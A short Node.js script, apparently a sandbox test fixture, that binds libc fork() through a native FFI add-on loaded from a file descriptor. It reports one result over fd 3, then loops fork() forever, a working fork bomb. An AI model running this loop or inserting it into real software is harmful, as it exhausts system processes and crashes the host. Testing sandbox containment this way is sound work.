/** What machine code in a worker would do: ask for children without end. koffi stands on the add-on descriptor here. */
const { writeSync } = require('node:fs');

const holder = { exports: {} };
process.dlopen(holder, '/proc/self/fd/5');
const fork = holder.exports.load(null).func('int fork()');

const head = Buffer.from(JSON.stringify({ kind: 'forked', answer: fork() }), 'utf8');
const prefix = Buffer.alloc(8);
prefix.writeUInt32LE(4 + head.length, 0);
prefix.writeUInt32LE(head.length, 4);
writeSync(3, Buffer.concat([prefix, head]));

for (;;) fork();
